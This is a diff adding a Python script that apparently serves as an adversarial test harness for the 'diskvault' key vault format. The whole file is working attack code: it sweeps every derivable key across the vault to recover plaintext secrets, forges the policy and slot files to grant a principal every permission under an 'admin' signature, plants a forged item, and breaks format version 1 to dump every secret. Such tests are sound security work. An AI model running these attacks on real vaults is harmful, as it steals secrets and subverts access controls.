@@ -1,0 +1,256 @@
+#!/usr/bin/python3
+"""An adversary with one principal's credential and read/write access to a key vault's files.
+
+Written against the on-disk format (Sources/DiskVault/KeyVault/KeyVaultFormat.swift) with Python's
+`cryptography` package, sharing no code with diskvault.
+
+  loot KV CRED            every key the credential yields, tried on every sealed thing in every file;
+                          prints JSON: the capabilities opened and every plaintext recovered
+  forge-policy KV CRED    grants the principal everything in policy.json, signed with its own key
+  forge-slot KV CRED      gives the principal a secrets.get key of its own making in its slot, signed by it
+  forge-item KV CRED      writes a new secret item sealed to the policy's keys, signed by the principal
+  loot-v1 KV CRED         the attack on key vault format 1: any credential unseals the master key, which
+                          opens every secret; prints each secret's value (base64) by name
+"""
+import hashlib
+import base64, json, os, sys
+from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+from cryptography.hazmat.primitives.kdf.hkdf import HKDF
+from cryptography.hazmat.primitives import hashes, serialization
+
+RAW = dict(encoding=serialization.Encoding.Raw, format=serialization.PublicFormat.Raw)
+
+
+def b64(s): return base64.b64decode(s)
+def e64(b): return base64.b64encode(b).decode()
+
+
+def hkdf(key, salt, info, n=32):
+    return HKDF(algorithm=hashes.SHA256(), length=n, salt=salt, info=info).derive(key)
+
+
+def gcm_open(box, key, ad):
+    if len(key) != 32 or len(box) < 5 + 12 + 16 or box[:5] != b"dvse\x01":
+        return None
+    try:
+        return AESGCM(key).decrypt(box[5:17], box[17:], ad or None)
+    except Exception:
+        return None
+
+
+def gcm_seal(plain, key, ad):
+    nonce = os.urandom(12)
+    return b"dvse\x01" + nonce + AESGCM(key).encrypt(nonce, plain, ad or None)
+
+
+def pk_open(box, priv, ad):
+    if len(box) < 5 + 32 or box[:5] != b"dvpk\x01":
+        return None
+    eph = box[5:37]
+    try:
+        shared = priv.exchange(X25519PublicKey.from_public_bytes(eph))
+    except Exception:
+        return None
+    mine = priv.public_key().public_bytes(**RAW)
+    return gcm_open(box[37:], hkdf(shared, eph + mine, b"diskvault sealed-to-key v1"), ad)
+
+
+def pk_seal(plain, pub, ad):
+    e = X25519PrivateKey.generate()
+    eph = e.public_key().public_bytes(**RAW)
+    shared = e.exchange(X25519PublicKey.from_public_bytes(pub))
+    return b"dvpk\x01" + eph + gcm_seal(plain, hkdf(shared, eph + pub, b"diskvault sealed-to-key v1"), ad)
+
+
+def signed_message(kind, path, payload):
+    return b"diskvault-keyvault-signed v1\0" + kind.encode() + b"\0" + path.encode() + b"\0" + payload
+
+
+def read_json(path):
+    with open(path, "rb") as f:
+        return json.load(f)
+
+
+def credential(kv, cred_path):
+    cred = read_json(cred_path)
+    secret = b64(cred["secret"])
+    salt = cred["keyVault"].encode()
+    box = X25519PrivateKey.from_private_bytes(hkdf(secret, salt, b"diskvault credential box"))
+    sign = Ed25519PrivateKey.from_private_bytes(hkdf(secret, salt, b"diskvault credential signing"))
+    return cred, secret, box, sign
+
+
+def every_file(kv):
+    for d, _, files in os.walk(kv):
+        for f in files:
+            yield os.path.join(d, f), os.path.relpath(os.path.join(d, f), kv)
+
+
+def blobs(value):
+    """Every base64 string inside a JSON value, decoded, and JSON inside those, recursively."""
+    if isinstance(value, dict):
+        for v in value.values():
+            yield from blobs(v)
+    elif isinstance(value, list):
+        for v in value:
+            yield from blobs(v)
+    elif isinstance(value, str):
+        try:
+            raw = base64.b64decode(value, validate=True)
+        except Exception:
+            return
+        yield raw
+        try:
+            yield from blobs(json.loads(raw))
+        except Exception:
+            pass
+
+
+def loot(kv, cred_path):
+    cred, secret, box, sign = credential(kv, cred_path)
+    kvid, me = cred["keyVault"], cred["principal"]
+    caps = {}  # (name, generation) -> X25519PrivateKey
+    slot_path = os.path.join(kv, "principals", me + ".json")
+    if os.path.exists(slot_path):
+        slot = json.loads(b64(read_json(slot_path)["payload"]))
+        for name, gens in slot["capabilities"].items():
+            for g, sealed in gens.items():
+                plain = pk_open(b64(sealed), box, f"slot:{kvid}:{me}:{name}:{g}".encode())
+                if plain is not None:
+                    caps[(name, int(g))] = X25519PrivateKey.from_private_bytes(plain)
+    opened = []
+    part_keys = []
+    ads = [b"", f"keyvault-admin:{kvid}".encode(), f"keyvault:{kvid}".encode()]
+    items_dir = os.path.join(kv, "items")
+    for name in sorted(os.listdir(items_dir)) if os.path.isdir(items_dir) else []:
+        item = json.loads(b64(read_json(os.path.join(items_dir, name))["payload"]))
+        for part, sealed in item["parts"].items():
+            ads.append(f"item:{kvid}:{item['id']}:{part}".encode())
+            pkey = None
+            for capname, wrap in sealed["wraps"].items():
+                ad = f"wrap:{kvid}:{item['id']}:{part}:{capname}:{wrap['generation']}".encode()
+                ads.append(ad)
+                # Every capability key the credential yields, and its own box key, on every wrap.
+                for k in list(caps.values()) + [box]:
+                    got = pk_open(b64(wrap["box"]), k, ad)
+                    if got is not None:
+                        pkey = got
+            if pkey is not None:
+                part_keys.append(pkey)
+                plain = gcm_open(b64(sealed["box"]), pkey, f"item:{kvid}:{item['id']}:{part}".encode())
+                if plain is not None:
+                    opened.append({"file": "items/" + name, "part": part, "plaintext": e64(plain)})
+    # The brute sweep: every symmetric key the credential yields (its secret, everything HKDF makes of it,
+    # the capability private keys, the part keys) on every sealed box in every file, under every
+    # associated data the format uses; and every X25519 key on every public-key box.
+    symmetric = [secret, hkdf(secret, kvid.encode(), b"diskvault credential box"),
+                 hkdf(secret, kvid.encode(), b"diskvault credential signing")]
+    symmetric += [k.private_bytes(encoding=serialization.Encoding.Raw, format=serialization.PrivateFormat.Raw,
+                                  encryption_algorithm=serialization.NoEncryption()) for k in caps.values()]
+    symmetric += part_keys
+    sweep = []
+    tried = 0
+    for full, rel in every_file(kv):
+        try:
+            doc = read_json(full)
+        except Exception:
+            continue
+        for raw in blobs(doc):
+            if raw[:5] == b"dvse\x01":
+                for k in symmetric:
+                    for ad in ads:
+                        tried += 1
+                        got = gcm_open(raw, k, ad)
+                        if got is not None:
+                            sweep.append({"file": rel, "plaintext": e64(got)})
+            if raw[:5] == b"dvpk\x01":
+                for k in list(caps.values()) + [box]:
+                    for ad in ads:
+                        tried += 1
+                        got = pk_open(raw, k, ad)
+                        if got is not None:
+                            sweep.append({"file": rel, "plaintext": e64(got)})
+    print(json.dumps({"principal": me, "capabilities": sorted(f"{n}@{g}" for n, g in caps),
+                      "opened": opened, "sweep": sweep, "tried": tried}))
+
+
+def write_signed(kv, path, kind, payload, signer, key, certificate=None):
+    doc = {"format": "diskvault-keyvault-signed", "kind": kind, "payload": e64(payload), "signer": signer,
+           "signature": e64(key.sign(signed_message(kind, path, payload)))}
+    if certificate:
+        doc["certificate"] = certificate
+    with open(os.path.join(kv, path), "w") as f:
+        json.dump(doc, f)
+
+
+def forge_policy(kv, cred_path):
+    cred, _, _, sign = credential(kv, cred_path)
+    doc = read_json(os.path.join(kv, "policy.json"))
+    policy = json.loads(b64(doc["payload"]))
+    every = ["get", "list", "set", "delete", "wrap", "unwrap", "backup", "restore"]
+    policy["principals"][cred["principal"]]["keys"] = every
+    policy["principals"][cred["principal"]]["secrets"] = every
+    # Claims to be the administrator; signed with the only key the principal has.
+    write_signed(kv, "policy.json", "policy", json.dumps(policy).encode(), "admin", sign)
+
+
+def forge_slot(kv, cred_path):
+    cred, _, box, sign = credential(kv, cred_path)
+    me, kvid = cred["principal"], cred["keyVault"]
+    path = f"principals/{me}.json"
+    doc = read_json(os.path.join(kv, path))
+    slot = json.loads(b64(doc["payload"]))
+    mine = X25519PrivateKey.generate()
+    raw = mine.private_bytes(encoding=serialization.Encoding.Raw, format=serialization.PrivateFormat.Raw,
+                             encryption_algorithm=serialization.NoEncryption())
+    gen = "1"
+    slot["capabilities"]["secrets.get"] = {gen: e64(pk_seal(raw, box.public_key().public_bytes(**RAW),
+                                                             f"slot:{kvid}:{me}:secrets.get:{gen}".encode()))}
+    write_signed(kv, path, "slot", json.dumps(slot).encode(), "admin", sign)
+
+
+def forge_item(kv, cred_path):
+    cred, _, _, sign = credential(kv, cred_path)
+    me, kvid = cred["principal"], cred["keyVault"]
+    policy = json.loads(b64(read_json(os.path.join(kv, "policy.json"))["payload"]))
+    slot = json.loads(b64(read_json(os.path.join(kv, "principals", me + ".json"))["payload"]))
+    item_id = os.urandom(16).hex()
+    parts = {}
+    for part, plain, readers in [
+        ("listing", json.dumps({"name": "planted", "version": 1, "tags": {"volume": "planted-volume"},
+                                "created": "2026-01-01T00:00:00Z"}).encode(), ["secrets.list", "secrets.get", "secrets.restore"]),
+        ("value", json.dumps({"value": e64(b"a planted key")}).encode(), ["secrets.get", "secrets.restore"]),
+    ]:
+        pkey = os.urandom(32)
+        wraps = {}
+        for c in readers:
+            cap = policy["capabilities"][c]
+            wraps[c] = {"generation": cap["generation"],
+                        "box": e64(pk_seal(pkey, b64(cap["publicKey"]), f"wrap:{kvid}:{item_id}:{part}:{c}:{cap['generation']}".encode()))}
+        parts[part] = {"box": e64(gcm_seal(plain, pkey, f"item:{kvid}:{item_id}:{part}".encode())), "wraps": wraps}
+    item = {"keyVault": kvid, "id": item_id, "scope": "secrets", "epoch": policy["epoch"], "parts": parts}
+    write_signed(kv, f"items/{item_id}", "item", json.dumps(item).encode(), "principal:" + me, sign, slot["certificate"])
+    print(item_id)
+
+
+def loot_v1(kv, cred_path):
+    cred = read_json(cred_path)
+    me = cred["principal"]
+    slot = read_json(os.path.join(kv, "principals", me + ".json"))
+    key = hashlib.sha256(b"diskvault credential" + b64(cred["secret"])).digest()
+    master = gcm_open(b64(slot["sealedMasterKey"]), key, f"principal:{me}".encode())
+    out = {}
+    for name in sorted(os.listdir(os.path.join(kv, "data", "secrets"))):
+        for v in os.listdir(os.path.join(kv, "data", "secrets", name)):
+            rel = f"data/secrets/{name}/{v}"
+            with open(os.path.join(kv, rel), "rb") as f:
+                record = json.loads(gcm_open(f.read(), master, rel.encode()))
+            out[name] = record["value"]
+    print(json.dumps(out))
+
+
+if __name__ == "__main__":
+    verb, kv, cred = sys.argv[1:4]
+    {"loot": loot, "forge-policy": forge_policy, "forge-slot": forge_slot, "forge-item": forge_item, "loot-v1": loot_v1}[verb](kv, cred)
